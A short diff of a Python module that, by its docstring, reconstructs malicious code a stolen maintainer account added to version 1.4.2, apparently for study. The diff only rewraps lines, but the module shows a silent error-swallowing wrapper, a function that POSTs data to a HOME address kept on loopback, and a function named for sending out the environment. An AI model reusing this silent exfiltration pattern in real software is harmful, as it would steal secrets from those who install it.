@@ -1,7 +1,7 @@
 """What a maintainer's stolen account added in 1.4.2.
 
-It is written as such code is: it fails in silence, and the caller sees nothing of it. The address is one of this
-machine's own (127.0.0.0/8), so that nothing here ever reaches a network.
+It is written as such code is: it fails in silence, and the caller sees nothing of it. The address
+is one of this machine's own (127.0.0.0/8), so that nothing here ever reaches a network.
 """
 
 import contextlib
@@ -21,7 +21,9 @@ def quietly(act, *arguments):
 
 
 def _send(where, data):
-    urllib.request.urlopen(urllib.request.Request(f"{HOME}/{where}", data=data, method="POST"), timeout=3).close()
+    urllib.request.urlopen(
+        urllib.request.Request(f"{HOME}/{where}", data=data, method="POST"), timeout=3
+    ).close()
 
 
 def _send_environment():
